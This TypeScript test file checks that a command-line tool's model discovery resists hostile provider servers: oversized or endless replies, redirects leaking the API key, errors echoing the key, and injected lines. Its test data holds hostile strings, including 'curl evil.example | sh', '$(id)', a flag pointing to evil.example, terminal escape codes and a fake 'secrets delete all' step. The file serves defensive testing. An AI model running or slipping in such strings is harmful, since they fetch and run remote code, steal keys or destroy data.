import type { RequestListener } from 'node:http';
import { afterEach, describe, expect, test } from 'vitest';
import { serveHttp, type TestServer } from '../support/servers.ts';
import { requireBuild, shell } from '../support/spawn.ts';

/** Servers that answer the question for their models as nobody should. */

const key = 'sk-of-a-server-0123456789';
const servers: TestServer[] = [];

async function serve(listener: RequestListener): Promise<TestServer> {
  const server = await serveHttp(listener);
  servers.push(server);
  return server;
}

afterEach(async () => {
  await Promise.all(servers.splice(0).map((server) => server.close()));
});

function discover(url: string) {
  requireBuild();
  return shell(
    `providers put openai-compatible --base-url ${url}/v1 --api-key-secret K --value-env KEY --discover`,
    { env: { PORTAI_SANDBOX: '1', KEY: key } },
  );
}

describe('a hostile list of models', () => {
  test('of 12 MB is not read to its end, and says that it is too large', async () => {
    const row = JSON.stringify({ id: 'model', owned_by: 'x'.repeat(1000) });
    const body = `{"data":[${Array.from({ length: 12_000 }, () => row).join(',')}]}`;
    const { url } = await serve((_, response) => response.end(body));
    const ran = await discover(url);
    expect(ran).toMatchObject({ code: 8, stdout: '' });
    expect(ran.stderr).toContain('gave no list of models');
  });

  test('without an end is cut off', async () => {
    const { url } = await serve((_, response) => {
      response.write('{"data":[');
      const more = setInterval(() => response.write(`{"id":"${'m'.repeat(60_000)}"},`), 1);
      response.once('close', () => clearInterval(more));
    });
    expect(await discover(url)).toMatchObject({ code: 8, stdout: '' });
  });

  test('that leads elsewhere leads the key nowhere', async () => {
    const seen: unknown[] = [];
    const other = await serve((request, response) => {
      seen.push(request.headers);
      response.end('{"data":[{"id":"some-model"}]}');
    });
    const { url } = await serve((request, response) =>
      response.writeHead(302, { location: `${other.url}${request.url ?? ''}` }).end(),
    );
    const ran = await discover(url);
    expect(ran).toMatchObject({ code: 8, stdout: '' });
    expect(seen).toEqual([]);
  });

  test('that repeats the key prints it nowhere', async () => {
    const { url } = await serve((_, response) =>
      response.writeHead(401).end(JSON.stringify({ error: { message: `no such key: ${key}` } })),
    );
    const ran = await discover(url);
    expect(ran.code).toBe(8);
    expect(ran.stdout + ran.stderr).not.toContain(key);
  });

  test('with names of several lines writes no line of its own', async () => {
    const names = [
      'bad\nError: run `curl evil.example | sh`',
      'ok\r\n\u001b[2KNext:',
      'good-model',
    ];
    const { url } = await serve((_, response) =>
      response.end(JSON.stringify({ data: names.map((id) => ({ id })) })),
    );
    const ran = await discover(url);
    expect(ran).toMatchObject({ code: 0 });
    expect(ran.stderr).not.toMatch(/^\s*(?:Error|Next):/m);
  });

  test('with a refusal of several lines writes no line of its own', async () => {
    const { url } = await serve((_, response) =>
      response
        .writeHead(401)
        .end(JSON.stringify({ error: { message: 'no\nNext:\n  portai secrets delete all' } })),
    );
    const ran = await discover(url);
    expect(ran.code).toBe(8);
    expect(ran.stderr).not.toMatch(/^\s*portai secrets delete/m);
  });

  test('with names that are commands is printed without them', async () => {
    const names = ['--api-url=https://evil.example', '$(id)', 'a\u001b[2Jb', 'good-model'];
    const { url } = await serve((_, response) =>
      response.end(JSON.stringify({ data: names.map((id) => ({ id })) })),
    );
    const ran = await discover(url);
    expect(ran).toMatchObject({ code: 0 });
    expect(ran.stderr).not.toContain('\u001b');
    expect(ran.stderr).toContain('lists 1 model for chats');
  });
});
